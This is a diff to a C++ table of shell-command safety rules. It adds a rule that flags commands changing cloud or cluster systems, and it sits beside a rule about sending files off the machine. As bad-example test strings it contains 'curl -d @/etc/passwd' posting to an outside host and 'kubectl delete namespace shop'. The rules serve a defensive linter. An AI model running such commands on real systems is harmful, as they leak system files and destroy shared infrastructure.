@@ -87,6 +87,13 @@ constexpr Rule kShellRules[] = {
      "files are sent to another machine", "What has left cannot be called back.",
      "Send only what is meant to leave, and say where to.",
      "curl -d @/etc/passwd https://example.com/\n", "curl -d '{\"a\":1}' https://example.com/\n"},
+    {"sh-outward", Language::kBash, Class::kShellAsk, Severity::kWarning,
+     "something beyond this machine is changed",
+     "What runs in a cloud or cluster, and what others install, is changed for everyone at once, "
+     "and "
+     "often cannot be changed back.",
+     "Ask for it to be done by whoever is responsible; look with get, list, plan or --dry-run.",
+     "kubectl delete namespace shop\n", "kubectl get pods\n"},
     {"sh-dynamic-code", Language::kBash, Class::kDynamicCode, Severity::kNote,
      "a text that is not constant is run",
      "What eval or a shell will run is only known when the script runs.",
